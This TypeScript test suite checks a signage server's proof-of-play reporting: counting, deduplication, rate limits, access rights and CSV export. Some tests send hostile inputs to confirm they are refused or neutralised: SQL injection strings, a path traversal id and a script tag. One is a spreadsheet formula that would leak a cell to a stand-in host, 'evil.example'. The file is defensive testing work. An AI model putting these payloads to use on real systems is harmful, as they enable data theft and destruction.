import {
  DisplayId,
  type DisplayKey,
  type ItemId,
  MAX_PIECES_PER_TELLING,
  OrganisationId,
  type PlayPiece,
  PlaysReport,
  pathOf,
  ScreenId,
} from '@placard/contract'
import fc from 'fast-check'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { SAMPLE_DISPLAY } from '../../operations/seed/service.ts'
import { DIALECTS, describeDialects, makeTestStorage } from '../../testing/dialects.ts'
import { enterAs, makePlace } from '../../testing/people.ts'
import { SCREEN_STATE } from '../../testing/screen-state.ts'
import { type Client, createClient, startTestServer, type TestServer } from '../../testing/server.ts'

const SECOND_MS = 1_000
const MINUTE_MS = 60_000
const HOUR_MS = 60 * MINUTE_MS
const DAY_MS = 24 * HOUR_MS
const START = Date.parse('2026-11-21T08:00:00Z')
const SERIES = '0123456789abcdef'

let made = 0
const newScreen = () => {
  made += 1
  return ScreenId.parse(made.toString(16).padStart(32, '0'))
}

/** Makes the screen known to its display. */
async function introduce(server: TestServer, screenId: ScreenId, key: DisplayKey = SAMPLE_DISPLAY): Promise<void> {
  await server.anonymous.call('reportScreen', {
    params: { ...key, screenId },
    body: { state: SCREEN_STATE, events: [] },
  })
  await server.app.screens.list(key)
}

function tell(
  server: TestServer,
  screenId: ScreenId,
  pieces: PlayPiece[],
  { series = SERIES, key = SAMPLE_DISPLAY }: { series?: string; key?: DisplayKey } = {},
) {
  return server.anonymous.call('tellPlays', { params: { ...key, screenId }, body: { series, pieces } })
}

async function read(client: Client, query: Record<string, string>): Promise<PlaysReport> {
  const path = pathOf('getPlays', { organisationId: SAMPLE_DISPLAY.organisationId })
  const response = await client.visit(`${path}?${new URLSearchParams(query)}`)
  return PlaysReport.parse(await response.json())
}

async function readTable(client: Client, query: Record<string, string>): Promise<string> {
  const path = pathOf('exportPlays', { organisationId: SAMPLE_DISPLAY.organisationId })
  return Buffer.from(await (await client.visit(`${path}?${new URLSearchParams(query)}`)).arrayBuffer()).toString()
}

describeDialects('proof of play', (dialect) => {
  let server: TestServer
  let admin: Client
  let items: { id: ItemId; title: string; sha256: string | undefined }[]
  const clock = { now: START }

  beforeAll(async () => {
    server = await startTestServer({ dialect, now: () => clock.now })
    const { body } = await server.anonymous.call('getManifest', { params: SAMPLE_DISPLAY })
    admin = await server.signIn()
    const { body: programme } = await admin.call('getProgramme', { params: SAMPLE_DISPLAY })
    items = body.items.map(({ id, sha256 }) => ({
      id,
      sha256,
      title: programme.items.find((item) => item.id === id)?.title ?? '',
    }))
  })
  afterAll(() => server.close())
  beforeEach(async () => {
    await server.app.context.database.queries.deleteFrom('play_screen').execute()
    await server.app.context.database.queries.deleteFrom('screen').execute()
    // Eight in the morning of the next day, past every rate limit.
    clock.now = (Math.floor(clock.now / DAY_MS) + 1) * DAY_MS + 8 * HOUR_MS
    admin = await server.signIn()
  })

  /** The day by the server's clock, or one some days later. */
  const day = (later = 0) => new Date(clock.now + later * DAY_MS).toISOString().slice(0, 10)
  const today = () => ({ from: day(), to: day() })

  const play = (n: number, changes: Partial<Extract<PlayPiece, { kind: 'play' }>> = {}): PlayPiece => ({
    kind: 'play',
    n,
    at: clock.now - 10 * SECOND_MS,
    ms: 10 * SECOND_MS,
    itemId: (items[0] as { id: ItemId }).id,
    showings: 1,
    cut: 0,
    ...changes,
  })

  async function one(): Promise<ScreenId> {
    const id = newScreen()
    await introduce(server, id)
    return id
  }

  it('[LY10] a showing in a zone is counted with its share of the screen, in the report and in the table', async () => {
    const screen = await one()
    const [a, b] = items as unknown as [{ id: ItemId }, { id: ItemId }]
    await tell(server, screen, [play(1, { share: 25 }), play(2, { itemId: b.id })])
    await tell(server, screen, [play(3, { ms: 30_000, share: 75 })])
    const { total, items: told } = await read(admin, today())
    expect(total.told).toMatchObject({ ms: 50_000, areaMs: 2_500 + 10_000 + 22_500 })
    expect(told.find(({ itemId }) => itemId === a.id)?.told).toMatchObject({ ms: 40_000, areaMs: 25_000 })
    expect(told.find(({ itemId }) => itemId === b.id)?.told).toMatchObject({ ms: 10_000, areaMs: 10_000 })
    const [heading, ...shares] = (await readTable(admin, today()))
      .trim()
      .split('\r\n')
      .map((row) => row.split(',').at(-1))
    // The last piece goes on into another hour: 10 s on a quarter and 10 s on three quarters are half of the screen.
    expect([heading, ...shares.toSorted()]).toEqual(['Percent of screen', '100', '50', '75'])
    // Sums from before have no share, and count as the whole screen, also when they grow.
    const { queries } = server.app.context.database
    await queries.updateTable('play_sum').set({ area_ms: null }).execute()
    await tell(server, screen, [play(4, { share: 50 })])
    expect((await read(admin, today())).total.told).toMatchObject({ ms: 60_000, areaMs: 55_000 })
    for (const share of [0, 100, 12.5]) expect((await tell(server, screen, [play(9, { share })])).status).toBe(422)
  })

  it('[PP2] the report has the data of a screen: how often, how long, on which screens, and what was missed', async () => {
    const [first, second] = [await one(), await one()]
    await admin.call('updateScreen', { params: { ...SAMPLE_DISPLAY, screenId: first }, body: { name: 'Hall' } })
    const [a, b] = items as unknown as [{ id: ItemId }, { id: ItemId }]
    const answer = await tell(server, first, [
      play(1),
      play(2, { itemId: b.id, cut: 1, ms: 4_000 }),
      { kind: 'missed', n: 5, at: clock.now, itemId: b.id, missed: 2, why: 'missing' },
      { kind: 'idle', n: 6, at: clock.now, ms: 500 },
    ])
    expect(answer).toMatchObject({ status: 200, body: { until: 6 } })
    await tell(server, second, [play(1, { showings: 3, ms: 30_000 })])
    const report = await read(admin, today())
    const told = { showings: 5, ms: 44_000, areaMs: 44_000, cut: 1, missed: { missing: 2 } }
    expect(report.total).toEqual({ showings: 0, ms: 0, areaMs: 0, cut: 0, missed: {}, told })
    expect(report.days).toEqual([{ day: day(), showings: 0, ms: 0, told: { showings: 5, ms: 44_000 } }])
    expect(report.items).toMatchObject([
      {
        itemId: a.id,
        title: items[0]?.title,
        isRemoved: false,
        screens: 0,
        told: { showings: 4, screens: 2, missed: {} },
      },
      {
        itemId: b.id,
        title: items[1]?.title,
        showings: 0,
        told: { showings: 1, screens: 1, cut: 1, missed: { missing: 2 } },
      },
    ])
    expect(report.screens.map(({ name, screenId, showings, proven }) => [name, screenId, showings, proven])).toEqual([
      ['', second, 3, false],
      ['Hall', first, 2, false],
    ])
    expect((await read(admin, { ...today(), item: b.id })).total.told).toMatchObject({ showings: 1 })
    expect((await read(admin, { ...today(), display: 'none' })).screens).toEqual([])
  })

  it('[PP2] unknown time is reported, separately from time in which nothing was on', async () => {
    const id = await one()
    await tell(server, id, [play(1), { kind: 'idle', n: 2, at: clock.now, ms: 10 * MINUTE_MS }])
    clock.now += 2 * HOUR_MS
    // Two hours, without the reported time and the last minutes, whose reports may not have arrived.
    expect((await read(admin, today())).screens).toMatchObject([{ silentMs: (120 - 10 - 12) * MINUTE_MS }])
  })

  it('[PP2] [SH2] outside of the opening hours of its display nothing is missed of a screen', async () => {
    const id = await one()
    const openingHours = { hours: [{ from: '09:00', until: '10:00' }] }
    await admin.call('updateDisplay', { params: SAMPLE_DISPLAY, body: { timeZone: 'UTC', openingHours } })
    await tell(server, id, [play(1)])
    clock.now += 6 * HOUR_MS
    expect((await read(admin, today())).screens).toMatchObject([{ silentMs: HOUR_MS }])
    await admin.call('updateDisplay', { params: SAMPLE_DISPLAY, body: { openingHours: null } })
  })

  it('[PP2] a showing over the full hour counts in the one in which it began, its time in both', async () => {
    const id = await one()
    const at = Date.parse(`${day()}T06:59:57Z`)
    await tell(server, id, [play(1, { at, cut: 1 })])
    const lines = (await readTable(admin, today())).trim().split('\r\n').slice(1)
    expect(lines.map((line) => line.split(',').slice(9, 16).join(' '))).toEqual([
      `${day()} 06:00 UTC ${day()}T06:00:00.000Z 1 3 0`,
      `${day()} 07:00 UTC ${day()}T07:00:00.000Z 0 7 1`,
    ])
  })

  it('[PP2] days are those of the clock at the display', async () => {
    const id = await one()
    await admin.call('updateDisplay', { params: SAMPLE_DISPLAY, body: { timeZone: 'Asia/Kolkata' } })
    // 00:10 in that time zone.
    await tell(server, id, [play(1, { at: Date.parse(`${day(-1)}T18:40:00Z`) })])
    expect((await read(admin, today())).total.told.showings).toBe(1)
    expect((await read(admin, { from: day(-1), to: day(-1) })).total.told.showings).toBe(0)
    expect(await readTable(admin, today())).toContain(`,${day()},00:00,Asia/Kolkata,${day(-1)}T18:30:00.000Z,1,10,`)
    await admin.call('updateDisplay', { params: SAMPLE_DISPLAY, body: { timeZone: 'UTC' } })
  })

  it('[PP2] the names of an item, a screen and a display that are gone stay readable', async () => {
    const key: DisplayKey = { ...SAMPLE_DISPLAY, displayId: DisplayId.parse('short') }
    await admin.call('createDisplay', { params: SAMPLE_DISPLAY, body: { id: key.displayId, name: 'Short-lived' } })
    const item = { title: 'Farewell', url: 'https://example.org/a.jpg', type: 'image' as const }
    const { body } = await admin.call('createItem', { params: key, body: item })
    const itemId = body.item.id
    const id = newScreen()
    await introduce(server, id, key)
    await admin.call('updateScreen', { params: { ...key, screenId: id }, body: { name: 'Left' } })
    await admin.call('removeItem', { params: { ...key, itemId }, headers: { 'if-match': '*' } })
    // The screen was offline while the item was removed.
    await tell(server, id, [play(1, { itemId })], { key })
    expect((await read(admin, today())).items).toMatchObject([
      { title: 'Farewell', isRemoved: true, told: { showings: 1 } },
    ])
    await admin.call('removeDisplay', { params: key, headers: { 'if-match': '*' } })
    const report = await read(admin, today())
    expect(report.items).toMatchObject([{ title: 'Farewell', isRemoved: true, told: { showings: 1 } }])
    expect(report.screens).toMatchObject([{ displayName: 'Short-lived', isRemoved: true, name: 'Left' }])
    expect(await readTable(admin, today())).toContain('Short-lived,short,Left,')
  })

  it('[PP2] data older than 400 days is deleted, and an item with a new title keeps its data', async () => {
    const id = await one()
    await tell(server, id, [play(1)])
    clock.now += 399 * DAY_MS
    await server.app.plays.sweep()
    expect(await server.app.context.database.queries.selectFrom('play_sum').select('ms').execute()).toHaveLength(1)
    clock.now += 2 * DAY_MS
    await server.app.plays.sweep()
    const { queries } = server.app.context.database
    expect(await queries.selectFrom('play_sum').select('ms').execute()).toEqual([])
    expect(await queries.selectFrom('play_screen').select('id').execute()).toEqual([])
  })

  it('[PP1] each piece counts once, whatever is lost, repeated or late', async () => {
    const step = fc.record({
      /** `answer`: the answer is lost. `request`: the request itself. */
      lost: fc.constantFrom('nothing', 'answer', 'request'),
      size: fc.integer({ min: 1, max: 7 }),
      counted: fc.nat(4),
      /** An old request that arrives again. */
      again: fc.option(fc.nat(20)),
    })
    await fc.assert(
      fc.asyncProperty(fc.array(step, { maxLength: 12 }), async (steps) => {
        const id = await one()
        let queue: PlayPiece[] = []
        let n = 0
        let all = 0
        const sent: PlayPiece[][] = []
        const send = async (lost: string) => {
          const pieces = queue.slice(0, 5)
          if (pieces.length === 0 || lost === 'request') return
          sent.push(pieces)
          // Enough time for every rate limit.
          clock.now += 3 * SECOND_MS
          const { status, body } = await tell(server, id, pieces)
          expect(status).toBe(200)
          if (lost === 'nothing') queue = queue.filter((piece) => piece.n > body.until)
        }
        for (const { lost, size, counted, again } of steps) {
          for (let index = 0; index < size; index += 1) {
            n += 1 + (counted % 2)
            all += 1
            queue.push(play(n, { ms: 100 }))
          }
          await send(lost)
          const old = again === null ? undefined : sent[again]
          if (old) await tell(server, id, old)
        }
        while (queue.length > 0) await send('nothing')
        const own = (await read(admin, today())).screens.find(({ screenId }) => screenId === id)
        expect([own?.showings ?? 0, own?.ms ?? 0]).toEqual([all, all * 100])
      }),
      { numRuns: 12 },
    )
  })

  describe('[B115] plays that never were', () => {
    it('an item that is nobody’s, or another organisation’s, counts nothing, and the rest does', async () => {
      const key = { organisationId: OrganisationId.parse(`other${dialect}`), displayId: DisplayId.parse('hall') }
      await makePlace(server, key)
      const other = await enterAs(server, `other-${dialect}`, { role: 'owner', home: key })
      const item = { title: 'Theirs', url: 'https://example.org/a.jpg', type: 'image' as const }
      const { body } = await other.client.call('createItem', { params: key, body: item })
      const id = await one()
      const unknown = [play(1, { itemId: 'never' as ItemId }), play(2, { itemId: body.item.id }), play(3)]
      expect((await tell(server, id, unknown)).body).toEqual({ until: 3 })
      expect((await read(admin, today())).items).toMatchObject([{ itemId: items[0]?.id, told: { showings: 1 } }])
    })

    it('a file that nobody stored is left out, a stored one is named', async () => {
      const id = await one()
      const stored = items.find(({ sha256 }) => sha256)
      const { id: itemId } = stored as { id: ItemId }
      await tell(server, id, [play(1, { itemId, sha256: 'f'.repeat(64) }), play(2, { itemId, sha256: stored?.sha256 })])
      const { queries } = server.app.context.database
      const rows = await queries.selectFrom('play_item').select('sha256').where('item_id', '=', itemId).execute()
      expect(rows.map(({ sha256 }) => sha256).sort()).toEqual(['', stored?.sha256])
      expect((await read(admin, today())).total.told.showings).toBe(2)
    })

    it('an unknown screen, or an unknown display, gets an error and leaves no row', async () => {
      expect((await tell(server, newScreen(), [play(1)])).status).toBe(404)
      const key = { ...SAMPLE_DISPLAY, displayId: DisplayId.parse('nowhere') }
      expect((await tell(server, newScreen(), [play(1)], { key })).status).toBe(404)
      expect(await server.app.context.database.queries.selectFrom('play_screen').select('id').execute()).toEqual([])
    })

    it('without the secret of a screen nothing is proven', async () => {
      await tell(server, await one(), [play(1)])
      expect((await read(admin, today())).screens).toMatchObject([{ proven: false }])
    })
  })

  describe('[S35] proven and told plays', () => {
    /** A browser that is paired as a screen of the sample display, and known to it. */
    async function paired(): Promise<{ player: Client; screenId: ScreenId }> {
      const player = createClient(server.url)
      const { organisationId, displayId } = SAMPLE_DISPLAY
      const asked = { secret: null, width: 1920, height: 1080, timeZone: 'UTC' }
      const waiting = (await player.call('enterScreen', { params: {}, body: asked })).body
      if (waiting.status !== 'waiting') throw new Error('it is paired')
      const screen = await admin.call('pairScreen', {
        params: { organisationId, code: waiting.code },
        body: { as: 'new', displayId, name: 'Hall', place: '' },
      })
      const params = { ...SAMPLE_DISPLAY, screenId: screen.body.id }
      await player.call('reportScreen', { params, body: { state: SCREEN_STATE, events: [] } })
      await server.app.screens.list(SAMPLE_DISPLAY)
      return { player, screenId: screen.body.id }
    }
    const tellAs = (by: Client, screenId: ScreenId, pieces: PlayPiece[]) =>
      by.call('tellPlays', { params: { ...SAMPLE_DISPLAY, screenId }, body: { series: SERIES, pieces } })

    it('[S35] three proven showings beside three thousand others are three in the total, and the others stand apart', async () => {
      const { player, screenId } = await paired()
      await tellAs(player, screenId, [play(1, { showings: 3 })])
      await tell(server, await one(), [
        play(1, { showings: 1_000 }),
        play(2, { showings: 1_000 }),
        play(3, { showings: 1_000 }),
        { kind: 'missed', n: 4, at: clock.now, itemId: items[0]?.id as ItemId, missed: 7, why: 'late' },
      ])
      const report = await read(admin, today())
      expect(report.total).toMatchObject({ showings: 3, ms: 10_000, missed: {} })
      expect(report.total.told).toMatchObject({ showings: 3_000, missed: { late: 7 } })
      expect(report.days).toMatchObject([{ showings: 3, told: { showings: 3_000 } }])
      expect(report.items).toMatchObject([{ showings: 3, screens: 1, told: { showings: 3_000, screens: 1 } }])
      expect(report.screens.map(({ proven, showings }) => [proven, showings])).toEqual([
        [true, 3],
        [false, 3_000],
      ])
    })

    it('[S35] made-up screens of one network come into the list slowly, and keep no proven one out of it', async () => {
      const { queries } = server.app.context.database
      const statuses: number[] = []
      for (let round = 0; round < 3; round += 1) {
        for (let made = 0; made < 20; made += 1) {
          const { status } = await tell(server, await one(), [play(1)])
          statuses.push(status)
        }
        // The display forgets them, so that it accepts more of them.
        await queries.deleteFrom('screen').execute()
        clock.now += 40 * MINUTE_MS
      }
      const listed = (await read(await server.signIn(), { from: day(-1), to: day() })).screens
      expect(listed.length).toBeGreaterThan(20)
      expect(listed.length).toBeLessThanOrEqual(30 + 9)
      expect(statuses).toContain(503)
      const rows = Array.from({ length: 500 }, (_, index) => ({
        organisation_id: SAMPLE_DISPLAY.organisationId,
        display_id: SAMPLE_DISPLAY.displayId,
        screen_id: `9${index.toString(16).padStart(31, '0')}`,
        proven: 0 as const,
        ...{ name: '', display_name: '', time_zone: 'UTC', first_at: clock.now, told_at: clock.now },
      }))
      await queries.insertInto('play_screen').values(rows).execute()
      admin = await server.signIn()
      const { player, screenId } = await paired()
      expect((await tellAs(player, screenId, [play(1)])).status).toBe(200)
      expect((await tell(server, await one(), [play(1)])).status).toBe(503)
    })
  })

  describe('[B116] plays that cannot be', () => {
    it('from the future, or older than a screen keeps them, they count nothing', async () => {
      const id = await one()
      const pieces = [
        play(1, { at: clock.now - 32 * DAY_MS }),
        play(2, { at: 0 }),
        play(3, { at: clock.now + 10 * MINUTE_MS }),
        play(4, { at: Number.MAX_SAFE_INTEGER }),
        play(5, { at: clock.now - 29 * DAY_MS }),
      ]
      expect((await tell(server, id, pieces)).body).toEqual({ until: 5 })
      expect((await read(admin, { from: day(-40), to: day() })).total.told.showings).toBe(1)
    })

    const wrong = (change: object) => ({ series: SERIES, pieces: [{ ...play(1), ...change }] })
    it.each([
      ['less than no time', () => wrong({ ms: -1 })],
      ['a fraction', () => wrong({ ms: 0.5 })],
      ['a day in one piece', () => wrong({ ms: DAY_MS })],
      ['a million showings in one piece', () => wrong({ showings: 1_000_000 })],
      ['a number beyond all numbers', () => wrong({ n: 1e300 })],
      ['a number below one', () => wrong({ n: 0 })],
      ['an item that is no id', () => wrong({ itemId: '../../etc' })],
      ['a digest that is none', () => wrong({ sha256: "'; drop table play_sum; --" })],
      ['a field too many', () => wrong({ viewers: 7 })],
      ['another kind', () => wrong({ kind: 'heard' })],
      ['a series with markup', () => ({ series: '<script>', pieces: [play(1)] })],
      ['numbers that go back', () => ({ series: SERIES, pieces: [play(2), play(1)] })],
      ['a number twice', () => ({ series: SERIES, pieces: [play(1), play(1)] })],
      ['nothing at all', () => ({ series: SERIES, pieces: [] })],
      [
        'more than one telling may hold',
        () => ({ series: SERIES, pieces: Array.from({ length: MAX_PIECES_PER_TELLING + 1 }, (_, n) => play(n + 1)) }),
      ],
      ['a list for a body', () => []],
    ])('%s is refused, and counts nothing', async (_, body) => {
      const id = await one()
      const params = { ...SAMPLE_DISPLAY, screenId: id }
      expect([400, 422]).toContain((await server.anonymous.call('tellPlays', { params, body: body() as never })).status)
      expect((await read(admin, today())).total.told.showings).toBe(0)
    })

    it('more than 64 kB is not even read', async () => {
      const params = { ...SAMPLE_DISPLAY, screenId: await one() }
      const body = { series: 'x'.repeat(70_000), pieces: [] }
      expect((await server.anonymous.call('tellPlays', { params, body })).status).toBe(413)
    })
  })

  describe('[B117] a million of them', () => {
    it('an hour holds no more than a screen can show in one, whatever is reported', async () => {
      const id = await one()
      for (let batch = 0; batch < 12; batch += 1) {
        const pieces = Array.from({ length: 10 }, (_, index) =>
          play(batch * 10 + index + 1, { showings: 1_000, ms: 15 * MINUTE_MS, at: Date.parse(`${day()}T06:00:00Z`) }),
        )
        await tell(server, id, pieces)
      }
      const { total } = await read(admin, today())
      expect(total.told.showings).toBeLessThanOrEqual(5 * 7_200)
      expect(total.told.ms).toBeLessThanOrEqual(5 * 2 * HOUR_MS)
    })

    it('[B85] a screen that reports again and again is told to wait, and the next one is not', async () => {
      const id = await one()
      const statuses: number[] = []
      for (let count = 1; count <= 40; count += 1) statuses.push((await tell(server, id, [play(count)])).status)
      expect(statuses.slice(0, 30)).toEqual(Array.from({ length: 30 }, () => 200))
      expect(statuses.slice(30)).toContain(429)
      expect((await tell(server, await one(), [play(1)])).status).toBe(200)
    })

    it('queues without end are remembered in bounded number', async () => {
      const id = await one()
      for (let count = 0; count < 12; count += 1) {
        clock.now += 10 * SECOND_MS
        await tell(server, id, [play(1)], { series: count.toString(16).padStart(16, '0') })
      }
      expect(
        await server.app.context.database.queries.selectFrom('play_series').select('series').execute(),
      ).toHaveLength(4)
    })
  })

  describe('[B118] the same again', () => {
    it('a repeat, an older one after a newer, and one of the queue before count nothing', async () => {
      const id = await one()
      const batches = [
        [play(1), play(2)],
        [play(3), play(4)],
      ] as const
      let highest = 0
      for (const batch of [0, 1, 0, 1, 1, 0] as const) {
        const { body } = await tell(server, id, [...batches[batch]])
        highest = Math.max(highest, batch === 0 ? 2 : 4)
        expect(body.until).toBe(highest)
      }
      await tell(server, id, [play(1)], { series: 'f'.repeat(16) })
      await tell(server, id, [...batches[1]])
      expect((await read(admin, today())).total.told.showings).toBe(5)
    })

    it('ten at once count once', async () => {
      const id = await one()
      const answers = await Promise.all(Array.from({ length: 10 }, () => tell(server, id, [play(1), play(2)])))
      expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([200]))
      expect((await read(admin, today())).total.told.showings).toBe(2)
    })
  })

  describe('[B119] rights to read reports', () => {
    it('nobody reads another organisation’s, and who is limited reads their displays’ alone', async () => {
      const id = await one()
      await tell(server, id, [play(1)])
      const lab = { ...SAMPLE_DISPLAY, displayId: DisplayId.parse('lab') }
      await admin.call('createDisplay', { params: SAMPLE_DISPLAY, body: { id: lab.displayId, name: 'Lab' } })
      const limited = (
        await enterAs(server, `limited-${dialect}`, { role: 'editor', displays: [lab.displayId], home: lab })
      ).client
      const report = await read(limited, today())
      expect([report.total.told.showings, report.screens, report.items]).toEqual([0, [], []])
      expect((await read(limited, { ...today(), display: SAMPLE_DISPLAY.displayId })).screens).toEqual([])
      expect((await readTable(limited, today())).trim().split('\r\n')).toHaveLength(1)
      const key = { organisationId: OrganisationId.parse(`far${dialect}`), displayId: DisplayId.parse('hall') }
      await makePlace(server, key)
      const far = (await enterAs(server, `far-${dialect}`, { role: 'owner', home: key })).client
      const path = pathOf('getPlays', { organisationId: SAMPLE_DISPLAY.organisationId })
      expect((await far.visit(`${path}?${new URLSearchParams(today())}`)).status).toBe(404)
      expect((await read(admin, today())).total.told.showings).toBe(1)
      await admin.call('removeDisplay', { params: lab, headers: { 'if-match': '*' } })
    })

    it('[S39] one viewer with many connections closes the report for nobody else', async () => {
      const key = { organisationId: OrganisationId.parse(`busy${dialect}`), displayId: DisplayId.parse('hall') }
      await makePlace(server, key)
      const viewer = (await enterAs(server, `many-${dialect}`, { role: 'viewer', home: key })).client
      const colleague = (await enterAs(server, `few-${dialect}`, { role: 'viewer', home: key })).client
      const pathIn = ({ organisationId }: typeof key) =>
        `${pathOf('getPlays', { organisationId })}?${new URLSearchParams(today())}`
      const flood = Array.from({ length: 40 }, () => viewer.visit(pathIn(key)))
      const others = [
        ...Array.from({ length: 3 }, () => admin.visit(pathIn(SAMPLE_DISPLAY))),
        colleague.visit(pathIn(key)),
      ]
      expect((await Promise.all(others)).map(({ status }) => status)).toEqual([200, 200, 200, 200])
      for (const { status } of await Promise.all(flood)) expect([200, 503]).toContain(status)
    })

    it('[B97] a title that is a formula is text in the table, and stays in its cell', async () => {
      const title = '=HYPERLINK("https://evil.example/?"&A1,"Click, here")'
      const item = { title, url: 'https://example.org/b.jpg', type: 'image' as const }
      const { body } = await admin.call('createItem', { params: SAMPLE_DISPLAY, body: item })
      await tell(server, await one(), [play(1, { itemId: body.item.id })])
      const path = pathOf('exportPlays', { organisationId: SAMPLE_DISPLAY.organisationId })
      const response = await admin.visit(`${path}?${new URLSearchParams(today())}`)
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
      expect(response.headers.get('content-disposition')).toBe(`attachment; filename="plays-${day()}-${day()}.csv"`)
      const text = Buffer.from(await response.arrayBuffer()).toString()
      // Spreadsheets detect UTF-8 by the first character.
      expect(text.startsWith('\uFEFFDisplay,Display ID,Screen,')).toBe(true)
      expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click, here"")",`)
      const removal = { params: { ...SAMPLE_DISPLAY, itemId: body.item.id }, headers: { 'if-match': '*' } }
      await admin.call('removeItem', removal)
    })

    it.each([
      ['no days', {}],
      ['a day that is none', { from: '2026-02-31', to: '2026-03-01' }],
      ['an end before its beginning', { from: '2026-11-21', to: '2026-11-20' }],
      ['a whole year', { from: '2026-01-01', to: '2026-12-31' }],
      ['a field too many', { from: '2026-11-21', to: '2026-11-21', organisation: 'other' }],
      ['an item that is no id', { from: '2026-11-21', to: '2026-11-21', item: "x' or 1=1" }],
    ])('%s is refused, in the table too', async (_, query) => {
      for (const name of ['getPlays', 'exportPlays'] as const) {
        const path = pathOf(name, { organisationId: SAMPLE_DISPLAY.organisationId })
        const response = await admin.visit(`${path}?${new URLSearchParams(query as Record<string, string>)}`)
        expect([400, 422]).toContain(response.status)
      }
    })
  })
})

it.skipIf(!DIALECTS.includes('postgres'))(
  '[F78] two nodes that are told the same at once count it once, and either reports it',
  async () => {
    const storage = await makeTestStorage('postgres')
    const options = { sharedWith: storage, now: () => START }
    const [here, there] = await Promise.all([startTestServer(options), startTestServer(options)])
    const [admin, elsewhere] = await Promise.all([here.signIn(), there.signIn()])
    const { body } = await here.anonymous.call('getManifest', { params: SAMPLE_DISPLAY })
    const itemId = (body.items[0] as { id: ItemId }).id
    const ids = [newScreen(), newScreen()]
    for (const id of ids) await introduce(here, id)
    for (let turn = 0; turn < 8; turn += 1) {
      const pieces = [1, 2, 3].map((index) => ({
        kind: 'play' as const,
        n: turn * 3 + index,
        at: START - 10_000,
        ms: 1_000,
        itemId,
        showings: 1,
        cut: 0,
      }))
      const answers = await Promise.all(ids.flatMap((id) => [here, there, here].map((node) => tell(node, id, pieces))))
      expect(answers.map(({ status }) => status)).toEqual(answers.map(() => 200))
    }
    for (const client of [admin, elsewhere]) {
      expect(
        (await read(client, { from: '2026-11-21', to: '2026-11-21' })).screens.map(({ showings, ms }) => [
          showings,
          ms,
        ]),
      ).toEqual([
        [24, 24_000],
        [24, 24_000],
      ])
    }
    await Promise.all([here.close(), there.close()])
    await storage.remove()
  },
)
